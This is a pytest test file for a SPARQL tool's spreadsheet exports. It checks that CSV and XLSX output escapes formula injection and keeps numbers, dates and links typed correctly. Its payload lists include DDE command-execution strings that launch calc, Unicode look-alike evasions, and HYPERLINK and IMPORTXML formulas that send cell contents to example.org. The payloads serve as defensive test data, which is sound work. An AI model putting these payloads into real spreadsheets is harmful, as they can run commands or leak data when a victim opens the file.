"""For spreadsheet programs: no cell is a formula, and numbers, dates and links are what they are."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from dataclasses import replace
from datetime import datetime
from typing import Any

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from partnergraph import PartnerGraph
from partnergraph.errors import QueryError, QueryLimit
from partnergraph.execution.execute import execute
from partnergraph.results import spreadsheets
from partnergraph.results.formats import FORMATS
from partnergraph.sparql.syntax_errors import empty_reader
from partnergraph.spreadsheet_safety import escape_formula
from partnergraph.store import Reader

NOTHING = PartnerGraph(empty_reader())
FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.org/"&A1,"see")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-1+cmd|' /C calc'!A0",
    "-1",
    "-INF",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\tharmless",
    "\rharmless",
    "\0harmless",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫SUM(1)",
    "−1",
    "\u3000＝1",
    '="a"&"b"',
    '=IMPORTXML(CONCAT("http://example.org/",A1),"//a")',
    '=DDE("server";"topic";"item")',
]
INSIDE = ["a;=1+1", "a;\t@SUM(1)", "a\n=1+1", "a\r\n+1", "a\t-1", 'a";=1+1', "a; =1+1", "a\r＝1"]
HARMLESS = ["", "a = b", "1 + 1", "e-mail", "a@example.org", "'quoted", "a;b", "x\ny", "(=)", "007", "Ünï", "a,=b"]


def literal(text: str) -> str:
    return json.dumps(text, ensure_ascii=False).replace("\\u0000", "\0")


def rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def safe(*texts: str) -> list[str]:
    """The column of these texts in CSV for spreadsheet programs."""
    asked = NOTHING.query(f"SELECT ?x ?n {{ VALUES (?x ?n) {{ {' '.join(f'({literal(t)} 1)' for t in texts)} }} }}")
    return [row[0] for row in rows(asked.bytes("excel-csv"))[1:]]


def sheet(reader: Reader, query: str, **options: Any) -> tuple[Any, str | None]:
    """The sheet of an answer as openpyxl reads it, and the note."""
    output = io.BytesIO()
    note = execute(reader, query, "xlsx", output, **options)
    return openpyxl.load_workbook(io.BytesIO(output.getvalue())).active, note


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_formula_in_csv_has_an_apostrophe_before_it(text: str) -> None:
    [found] = safe(text)
    assert found.startswith("'")
    assert found.replace("'", "") == text.replace("'", "")
    assert found.count("'") - text.count("'") == (2 if text[:1] in "\t\r\n" and "=" in text else 1)


@pytest.mark.parametrize("text", INSIDE, ids=ascii)
def test_so_has_one_that_would_begin_a_cell_for_a_program_with_other_separators(text: str) -> None:
    [found] = safe(text)
    assert found.replace("'", "") == text
    for separator in ";\t\n\r":
        for piece in found.split(separator):
            assert piece.strip().lstrip("\u200b")[:1] not in tuple("=+-@＝") or not piece


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert safe(text) == [text]


@settings(deadline=None, max_examples=50)
@given(st.lists(st.text(st.sampled_from("=+-@\t\r\n ;,'\"aé１＝＠"), max_size=8), min_size=1, max_size=5))
def test_any_text_comes_back_but_for_apostrophes_and_none_is_armed(texts: list[str]) -> None:
    found = safe(*texts)
    assert [text.replace("'", "") for text in found] == [text.replace("'", "") for text in texts]
    assert not [text for text in found if text.lstrip()[:1] in tuple("=+-@＝＠") and text]
    assert [escape_formula(text) for text in found] == found, "once is enough"


def test_the_csv_is_for_excel_and_its_numbers_are_numbers(whole: Reader) -> None:
    query = """SELECT ?z ?n ?a { VALUES (?z ?n ?a) {
      (o:keele-university -3 "é,\\"ü\\"") (<urn:x> -2.5 UNDEF) (<urn:y> -1e3 "2014"^^xsd:gYear)
      (true "-3" "-x"@en) } }"""
    output = io.BytesIO()
    assert execute(whole, query, "excel-csv", output) is None
    assert output.getvalue().startswith(b"\xef\xbb\xbfz,n,a\r\n")
    assert rows(output.getvalue()) == [
        ["z", "n", "a"],
        ["Keele University", "-3", 'é,"ü"'],
        ["urn:x", "-2.5", ""],
        ["urn:y", "-1000", "2014"],
        ["true", "'-3", "'-x"],
    ]
    output = io.BytesIO()
    execute(whole, query, "excel-csv", output, iris=True)
    assert rows(output.getvalue())[1][0] == "https://w3id.org/partnergraph/id/org/keele-university"


def test_a_name_in_the_graph_is_disarmed_too() -> None:
    reader = Reader.nquads_lines(
        ['<http://example.org/a> <http://www.w3.org/2004/02/skos/core#prefLabel> "=EVIL()" <urn:g> .\n']
    )
    output = io.BytesIO()
    execute(reader, "SELECT ?s { ?s ?p ?o }", "excel-csv", output)
    assert rows(output.getvalue())[1] == ["'=EVIL()"]
    cell = sheet(reader, "SELECT ?s { ?s ?p ?o }")[0]["A2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == ("=EVIL()", "s", True)
    assert cell.hyperlink.target == "http://example.org/a"


def test_the_w3cs_csv_stays_exact() -> None:
    assert NOTHING.query('SELECT ?x { VALUES ?x { "=1+1" } }').bytes("csv") == b"x\r\n=1+1\r\n"


@pytest.mark.parametrize("text", [*FORMULAS, *INSIDE], ids=ascii)
def test_a_formula_in_a_sheet_is_a_text_and_stays_one_when_it_is_edited(text: str) -> None:
    cell = sheet(empty_reader(), f"SELECT ?x {{ VALUES ?x {{ {literal(text)} }} }}")[0]["A2"]
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert unescape(cell.value) == text.replace("\0", "\ufffd")


def test_no_part_of_a_workbook_holds_a_formula() -> None:
    asked = NOTHING.query(f"SELECT ?x {{ VALUES ?x {{ {' '.join(map(literal, [*FORMULAS, *INSIDE]))} }} }}")
    with zipfile.ZipFile(io.BytesIO(asked.bytes("xlsx"))) as book:
        assert not [name for name in book.namelist() if "externalLink" in name or "vba" in name]
        assert b"<f>" not in b"".join(map(book.read, book.namelist()))


def test_a_cell_is_of_the_kind_of_its_term(whole: Reader) -> None:
    found, note = sheet(
        whole,
        """SELECT ?z ?a { VALUES (?z ?a) {
        (1 -2.5) (1e3 true) ("2014-06-01"^^xsd:date "2014-06-01T12:30:00"^^xsd:dateTime)
        ("1899-12-31"^^xsd:date "2014-06-01T14:30:00+02:00"^^xsd:dateTime)
        (o:keele-university <http://example.org/a?b=1&c#d>) (<urn:x> <mailto:a@example.org>) ("007" "2014"^^xsd:gYear)
        (12345678901234567890 "NaN"^^xsd:double) (UNDEF "é"@fr) ("2014-02-30"^^xsd:date "INF"^^xsd:double) } }""",
    )
    assert note is None
    noon = datetime(2014, 6, 1, 12, 30)
    assert [[cell.value for cell in row] for row in found.iter_rows()] == [
        ["z", "a"],
        [1, -2.5],
        [1000, True],
        [datetime(2014, 6, 1), noon],
        ["1899-12-31", noon],
        ["Keele University", "http://example.org/a?b=1&c#d"],
        ["urn:x", "mailto:a@example.org"],
        ["007", "2014"],
        ["12345678901234567890", "NaN"],
        [None, "é"],
        ["2014-02-30", "INF"],
    ]
    assert (found["A4"].number_format, found["B4"].number_format) == ("yyyy-mm-dd", "yyyy-mm-dd hh:mm:ss")
    assert found["B5"].number_format == 'yyyy-mm-dd hh:mm:ss "UTC"'
    links = {cell.coordinate: cell.hyperlink for row in found.iter_rows() for cell in row if cell.hyperlink}
    assert {place: (link.target, link.location) for place, link in links.items()} == {
        "A6": ("https://w3id.org/partnergraph/id/org/keele-university", None),
        "B6": ("http://example.org/a?b=1&c", "d"),
    }


def test_the_heading_stays_in_sight_and_the_columns_are_wide_enough(whole: Reader) -> None:
    found, _ = sheet(whole, "SELECT ?name ?n { VALUES (?name ?n) { (o:keele-university 1) } }")
    assert found.freeze_panes == "A2"
    assert found.auto_filter.ref == "A1:B2"
    assert found["A1"].font.bold
    assert not found["A2"].font.bold
    assert len("Keele University") < found.column_dimensions["A"].width < 20


def test_iris_are_kept_when_asked_for(whole: Reader) -> None:
    found, _ = sheet(whole, "SELECT ?o { VALUES ?o { o:keele-university } }", iris=True)
    assert found["A2"].value == found["A2"].hyperlink.target == "https://w3id.org/partnergraph/id/org/keele-university"


@pytest.mark.parametrize("query", ["SELECT * {}", "SELECT * { FILTER(false) }", "SELECT ?x { FILTER(false) }"])
def test_an_empty_answer_is_a_workbook_too(query: str) -> None:
    found, _ = sheet(empty_reader(), query)
    assert found["A1"].value == ("x" if "?x" in query else None)
    assert found.max_row == 1


def test_the_same_answer_is_the_same_file_whenever_it_is_made() -> None:
    asked = NOTHING.query('SELECT ?x { VALUES ?x { 1 "a" <http://example.org/> "2014-06-01"^^xsd:date } }')
    data = asked.bytes("xlsx")
    assert data == asked.bytes("xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert {entry.date_time for entry in book.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert book.read("docProps/core.xml").count(b">1980-01-01T00:00:00Z<") == 2


def test_what_a_sheet_cannot_hold_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    long = Reader.nquads_lines(f'<urn:{n}> <urn:p> "{text}" .\n' for n, text in ((1, "é" * 32_767), (2, "😀" * 16_384)))
    found, note = sheet(long, "SELECT ?x { ?n ?p ?x } ORDER BY ?n")
    assert note == "1 texts are cut: a cell holds 32,767 characters."
    assert found["A2"].value == "é" * 32_767
    assert found["A3"].value == "😀" * 16_383 + "…"
    iri = f"<http://example.org/{'a' * 3000}>"
    with pytest.warns(UserWarning, match="1 IRIs are no links"):
        NOTHING.query(f"SELECT ?x {{ VALUES ?x {{ {iri} }} }}").bytes("xlsx")
    monkeypatch.setattr(spreadsheets, "MAX_LINKS", 1)
    found, note = sheet(empty_reader(), "SELECT ?x { VALUES ?x { <http://example.org/a> <http://example.org/b> } }")
    assert note == "1 IRIs are no links: a sheet holds 1, each up to 2,079 long."
    assert [found[cell].value for cell in ("A2", "A3")] == ["http://example.org/a", "http://example.org/b"]
    assert [found[cell].hyperlink is None for cell in ("A2", "A3")] == [False, True]
    monkeypatch.setattr(spreadsheets, "SHEET_ROWS", 2)
    monkeypatch.setitem(FORMATS, "xlsx", replace(FORMATS["xlsx"], max_rows=2))
    found, note = sheet(empty_reader(), "SELECT ?x { VALUES ?x { 1 2 3 } }")
    assert note == "Only the first 2 rows are shown: a sheet holds no more. Other formats do."
    assert found.max_row == 3
    assert sheet(empty_reader(), "SELECT ?x { VALUES ?x { 1 2 3 } }", max_rows=1)[1] == (
        "Only the first 1 rows are shown; raise --limit for more."
    )
    with pytest.raises(QueryLimit, match="A sheet holds 2 rows, and this answer has 3"):
        NOTHING.query("SELECT ?x { VALUES ?x { 1 2 3 } }").bytes("xlsx")
    names = " ".join(f"?v{i}" for i in range(3))
    monkeypatch.setattr(spreadsheets, "MAX_COLUMNS", 2)
    with pytest.raises(QueryLimit, match="A sheet holds 2 columns, and this answer has 3"):
        NOTHING.query(f"SELECT {names} {{}}").bytes("xlsx")


@pytest.mark.parametrize("form", ["excel-csv", "xlsx", "parquet", "arrow"])
def test_limits_and_reasons_hold_for_these_forms_too(whole: Reader, form: str) -> None:
    note = execute(whole, "SELECT ?s { ?s a org:Organization }", form, io.BytesIO(), max_rows=2)
    assert note == "Only the first 2 rows are shown; raise --limit for more."
    note = execute(whole, "SELECT ?s { ?s a org:Organisation }", form, io.BytesIO())
    assert note is not None
    assert note.startswith("Nothing was found.\n- ")
    with pytest.raises(QueryLimit, match="--size"):
        execute(whole, "SELECT ?s ?o { ?s skos:prefLabel ?o }", form, io.BytesIO(), max_bytes=5000)
    for query, message in (("ASK {}", "yes or no"), ("CONSTRUCT WHERE { ?s ?p ?o }", "a graph")):
        with pytest.raises(QueryError, match=f"gives {message}; its forms are"):
            execute(whole, query, form, io.BytesIO())
